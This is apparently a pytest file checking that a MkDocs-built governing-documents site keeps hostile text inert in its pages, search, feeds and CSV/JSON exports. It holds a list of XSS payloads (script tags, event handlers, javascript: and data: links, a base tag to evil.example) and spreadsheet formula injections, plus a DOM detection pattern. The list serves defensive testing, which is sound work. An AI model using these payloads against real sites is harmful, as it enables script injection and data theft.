"""Hostile text in every text field of the model is inert everywhere
(issue 11, point 1).

The fields come from the model (tests/model_texts.py): every free-text
string field reachable from a document, an organisation and the type list
(titles, names, headings, labels, bodies, duties, notes, rules as written,
the §, diary number and version, ...), including fields the real library
leaves out, which are filled in. A field added to the model later gets a
payload without this file changing, and the first test fails if one cannot.

A copy of the project with a script, event-handler, `</title>`, attribute,
javascript:/data: link, Markdown or spreadsheet payload in each field is
built once with `mkdocs build --strict`. Then:

- every page that shows a planted text is opened in chromium, in both
  languages: no script of the data runs (no dialog, no marker set, no
  console message, no error), and no element or attribute the data tried to
  make exists anywhere in the DOM, `<head>` included;
- each document page's `<title>` and heading read exactly as written;
- a search typed in both languages lists planted texts, and neither the
  result list nor a page opened from it runs or makes anything;
- every Atom feed, iCalendar file, CSV and JSON export parses, the planted
  texts arrive in it whole, and no CSV cell starts a formula;
- the payloads are shown as text, and the Markdown editors may write
  (emphasis, lists, http/https links) still renders.
"""

from __future__ import annotations

import itertools
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from styrdok.data.library import load_library
from styrdok.build.sandbox import copy_project

from ..bad_input.outputs import atom_entries, cell_text, csv_rows, formula_cells, ics_events, json_data
from ..model_texts import plant_library, text_fields
from ..site_build import PROJECT, html_pages, mkdocs_build
from . import support
from .test_search_in_browser import open_search, results

pytestmark = pytest.mark.xdist_group("hostile-site")

MARK = "HOSTILE"
# Each payload sets window.__pwned, shows a dialog or logs PWNED if it runs,
# and every element or attribute it tries to make carries `data-planted`.
PAYLOADS = [
    '<script data-planted>window.__pwned="script";alert("PWNED")</script>',
    '</title><script data-planted>window.__pwned="title";console.log("PWNED")</script>',
    '<img data-planted src=x onerror="window.__pwned=\'img\';alert(\'PWNED\')">',
    '<svg data-planted onload="window.__pwned=\'svg\'"><circle r=5></circle></svg>',
    '<a data-planted href="javascript:window.__pwned=\'a\'">klick</a>',
    '[markdown-länk](javascript:window.__pwned=%27md%27)',
    '[data-länk](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<javascript:window.__pwned="autolink">',
    '<iframe data-planted src="javascript:window.__pwned=\'iframe\'"></iframe>',
    '<!-- kommentar --><object data-planted data="javascript:window.__pwned=\'object\'"></object>',
    '<style data-planted>body{display:none}</style><embed data-planted src="x.swf">',
    '"><script data-planted>window.__pwned="attr"</script><b data-planted x="',
    "' data-planted='1' onmouseover='window.__pwned=1",
    '" data-planted="1" onfocus="window.__pwned=1" autofocus x="',
    '&lt;script data-planted&gt;window.__pwned="entity"&lt;/script&gt;',
    '&amp;lt;img data-planted src=x onerror=window.__pwned=1&amp;gt;',
    '{: data-planted onclick="window.__pwned=\'attr_list\'" }',
    '<details data-planted open ontoggle="window.__pwned=\'details\'">x</details>',
    '<math><mtext><table><mglyph><style><img data-planted src=x onerror=window.__pwned="mxss">',
    '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
    '<base data-planted href="http://evil.example/"><meta data-planted http-equiv="refresh" content="0;url=javascript:1">',
    '</textarea></noscript><script data-planted>window.__pwned="noscript"</script>',
    '+cmd|\' /C calc\'!A0 ${window.__pwned=1} {{7*7}}',
]
TITLE_BREAKER = '</title></h1>"><i data-planted>x</i>'
ALLOWED = "Tillåten *betoning*, **fetstil** och [en länk](https://example.org/tillaten).\n\n- punkt ett\n- punkt två"


@dataclass
class Hostile:
    site: Path
    values: list[str]  # every planted text
    planted: set[tuple[str, str]]  # (model, field) that got one
    titles: dict[str, tuple[str, str]]  # document id → its (sv, en) heading: planted title – planted organisation name


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    project = copy_project(PROJECT, tmp_path_factory.mktemp("hostile") / "project")
    # The fixture organisation of documents in every state of life (proposal, replaced, repealed, a
    # company board's decision, scope, identifiers), so that every field of the model holds a value.
    life = PROJECT / "tests" / "fixtures" / "life" / "policy_data"
    shutil.copy2(life / "organisations" / "provby.yaml", project / "policy_data" / "organisations")
    shutil.copytree(life / "documents" / "provby", project / "policy_data" / "documents" / "provby")
    other = project / "policy_data" / "documents" / "provby" / "utan-beslut.yaml"  # an identifier of scheme other
    content = yaml.safe_load(other.read_text(encoding="utf-8"))
    content["identifiers"] = [*(content.get("identifiers") or []),
                              {"scheme": "other", "label": {"sv": "Löpnummer", "en": "Serial number"}, "value": "1"}]
    other.write_text(yaml.safe_dump(content, allow_unicode=True, sort_keys=False), encoding="utf-8")
    counter = itertools.count(1)

    def make(multiline: bool) -> str:
        n = next(counter)
        payload = PAYLOADS[n % len(PAYLOADS)]
        # Half start with the payload (a formula must start the cell), half with the mark.
        text = f"{payload} {MARK}{n}" if n % 2 else f"{MARK}{n} {payload}"
        if not multiline:  # names and titles reach <title>, headings and attributes: each tries to leave them
            return text + TITLE_BREAKER
        return text + ("\n\n" + ALLOWED if n % 3 == 0 else "")

    planter = plant_library(project / "policy_data", make)
    library = load_library(project / "policy_data")
    def heading(loaded, language: str) -> str | None:
        title = loaded.model.title.get(language)
        org = library.organisations[loaded.organisation].name.get(language)
        return None if title is None else f"{title} – {org}"

    titles = {d: (heading(loaded, "sv"), heading(loaded, "en")) for d, loaded in library.documents.items()}
    site = project / "site"
    result = mkdocs_build(project, site)
    assert result.returncode == 0, f"the site with hostile text did not build:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
    yield Hostile(site, planter.values, planter.planted, titles)
    shutil.rmtree(project, ignore_errors=True)


@pytest.fixture(scope="module")
def affected(hostile: Hostile) -> list[str]:
    pages = [p for p in html_pages(hostile.site) if MARK in p.read_text(encoding="utf-8")]
    assert pages, "no built page shows the hostile text: was it planted?"
    return [support.site_path(hostile.site, p) for p in pages]


def test_every_text_field_of_the_model_gets_a_payload(hostile: Hostile) -> None:
    fields = text_fields()
    assert ("Document", "title") in fields and ("Actor", "name") in fields, "the model walk finds no text fields"
    assert not fields - hostile.planted, f"text fields without a payload: {sorted(fields - hostile.planted)}"


def test_the_hostile_texts_reach_the_pages(hostile: Hostile, affected: list[str]) -> None:
    doc = "vanersborg/internationell-policy/"
    must = {doc, "en/" + doc, "vanersborg/", "en/vanersborg/", "vanersborg/ansvar/",
            "vanersborg/aktorer/kommunfullmaktige/", "kalender/vanersborg/", "jamforelse/", "en/nytt/"}
    assert must <= set(affected), sorted(must - set(affected))


# Elements and attributes that no text from the data may create, anywhere in
# the document (head included). The theme itself has no on* attributes, no
# javascript:/data: links, no <base> and no refresh.
JS_FORBIDDEN = """() => {
  const bad = [];
  const show = e => e.outerHTML.slice(0, 120);
  for (const e of document.querySelectorAll('[data-planted], base, meta[http-equiv]')) bad.push(show(e));
  for (const e of document.querySelectorAll('script')) {
    // The page's JSON-LD holds the planted texts as data: a browser never runs it, and it must
    // parse and hold no `<` (so no text can end it); any other script must not mention the marker.
    if (e.type === 'application/ld+json') {
      try { JSON.parse(e.textContent); } catch (err) { bad.push('JSON-LD that does not parse'); }
      if (e.textContent.includes('<')) bad.push('a `<` inside the JSON-LD');
    } else if (e.textContent.includes('__pwned')) bad.push(show(e));
  }
  for (const e of document.querySelectorAll('*')) {
    for (const a of e.attributes) {
      if (/^on/i.test(a.name)) bad.push(`${e.tagName.toLowerCase()} ${a.name}="${a.value.slice(0, 60)}"`);
      if (['href', 'src', 'action', 'data', 'formaction', 'content'].includes(a.name)
          && /^\\s*(javascript|data|vbscript):/i.test(a.value))
        bad.push(`${e.tagName.toLowerCase()} ${a.name}="${a.value.slice(0, 60)}"`);
    }
  }
  if (document.querySelectorAll('title').length !== 1) bad.push(`${document.querySelectorAll('title').length} <title> elements`);
  if (document.querySelectorAll('.md-content h1').length > 1) bad.push('more than one h1');
  for (const img of document.querySelectorAll('.md-content img')) bad.push(show(img));
  return bad;
}"""


def _inert(visitor: support.Visitor) -> list[str]:
    page = visitor.page
    page.wait_for_timeout(30)  # give a late script (onerror, onload) the chance to run
    problems = []
    pwned = page.evaluate("() => window.__pwned ?? null")
    found = page.evaluate(JS_FORBIDDEN)
    logs = [m for m in visitor.console_errors if "PWNED" in m or "__pwned" in m]
    if pwned or visitor.dialogs or logs or found or visitor.page_errors:
        problems.append(f"script ran: {pwned!r}, dialogs {visitor.dialogs}, console {logs}, "
                        f"errors {visitor.page_errors}, planted elements {found[:5]}")
    return problems


@pytest.fixture(scope="module")
def visitor(hostile: Hostile) -> Iterator[support.Visitor]:
    with support.serve(hostile.site) as base:
        tab = support.Visitor(base, *support.WIDTHS["desktop"])
        try:
            yield tab
        finally:
            tab.close()


def test_no_hostile_text_runs_or_makes_elements(visitor: support.Visitor, affected: list[str]) -> None:
    problems = []
    for path in affected:
        visitor.open(path)
        problems += [f"/{path}: {p}" for p in _inert(visitor)]
        shown = visitor.page.evaluate("() => document.body.innerText")
        if MARK not in shown:
            problems.append(f"/{path}: the hostile text is in the HTML but not shown as text")
    assert not problems, "hostile text from the data was not inert:\n" + "\n".join(problems)


def test_titles_and_headings_read_as_written(hostile: Hostile, visitor: support.Visitor) -> None:
    problems = []
    for doc_id, (sv, en) in sorted(hostile.titles.items()):
        for prefix, title, site_name in (("", sv, "Styrdokument"), ("en/", en, "Governing documents")):
            if title is None:
                continue
            visitor.open(f"{prefix}{doc_id}/")
            got = visitor.page.evaluate("() => [document.title, document.querySelector('.md-content h1').innerText]")
            if got != [f"{title} - {site_name}", title]:
                problems.append(f"/{prefix}{doc_id}/: title and heading {got!r}, expected {title!r}")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("prefix", ["", "en/"])
def test_search_results_are_inert(hostile: Hostile, visitor: support.Visitor, prefix: str) -> None:
    visitor.open(prefix, wait_until="networkidle")
    page = visitor.page
    open_search(visitor, "button")
    page.keyboard.type(MARK.lower())
    page.wait_for_function("document.querySelectorAll('#sd-search-results li').length > 0", timeout=15000)
    page.wait_for_timeout(300)
    listed = page.evaluate("() => document.getElementById('sd-search-results').innerText")
    assert MARK in listed, "the search lists no planted text"
    problems = _inert(visitor)
    first = results(visitor)[0]
    visitor.open(first.lstrip("/") if first.startswith("/") else prefix + first)  # the page a result leads to
    problems += _inert(visitor)
    assert not problems, "\n".join(problems)


def test_feeds_and_exports_parse_with_the_texts_whole(hostile: Hostile) -> None:
    files = {p.relative_to(hostile.site).as_posix(): p.read_bytes() for p in hostile.site.rglob("*")
             if p.is_file() and p.suffix in (".xml", ".ics", ".csv", ".json") and "pagefind" not in p.parts
             and p.name != "sitemap.xml"}
    kinds = {name.rsplit(".", 1)[1] for name in files}
    assert kinds == {"xml", "ics", "csv", "json"}, f"expected Atom, iCalendar, CSV and JSON files, found {sorted(kinds)}"
    texts: list[tuple[str, str]] = []
    for name in sorted(files):
        if name.endswith(".xml"):
            for entry in atom_entries(files, name):
                texts += [(name, entry.title), (name, entry.summary)]
        elif name.endswith(".ics"):
            for event in ics_events(files, name):
                texts += [(name, str(event["summary"])), (name, str(event["description"]))]
        elif name.endswith(".csv"):
            texts += [(name, cell_text(cell)) for row in csv_rows(files, name) for cell in row.values()]
        else:
            data = json_data(files, name)  # a matrix export (duties) or the list of documents
            texts += [(name, value) for row in data.get("duties", data.get("documents", [])) for value in row.values()]
    marked = [(name, text) for name, text in texts if MARK in text]
    assert {name.rsplit(".", 1)[1] for name, _ in marked} == kinds, "a kind of output holds no planted text"
    broken = [(name, text[:120]) for name, text in marked if not any(value in text for value in hostile.values)]
    assert not broken, f"planted texts that did not arrive whole: {broken[:5]}"
    assert not formula_cells(files), f"CSV cells a spreadsheet would run: {formula_cells(files)[:5]}"


def test_hostile_text_is_shown_as_text(visitor: support.Visitor) -> None:
    visitor.open("vanersborg/internationell-policy/")
    text = visitor.page.evaluate("() => document.querySelector('.md-content').innerText")
    for fragment in ("<script data-planted>", "onerror=", "javascript:", "<iframe", "</title>"):
        assert fragment in text, f"{fragment!r} is not shown as text on the document page"


def test_allowed_markdown_still_renders(hostile: Hostile) -> None:
    from bs4 import BeautifulSoup

    page = hostile.site / "vanersborg" / "internationell-policy" / "index.html"
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
    texts = [t for t in soup.select(".md-content .sd-text") if t.find("em", string="betoning")]
    assert texts, "no section text on the document page shows the allowed Markdown"
    first = texts[0]
    assert first.find("strong", string="fetstil"), first
    link = first.find("a", string="en länk")
    assert link is not None and link["href"] == "https://example.org/tillaten", first
    assert [li.get_text() for li in first.select("ul > li")] == ["punkt ett", "punkt två"], first
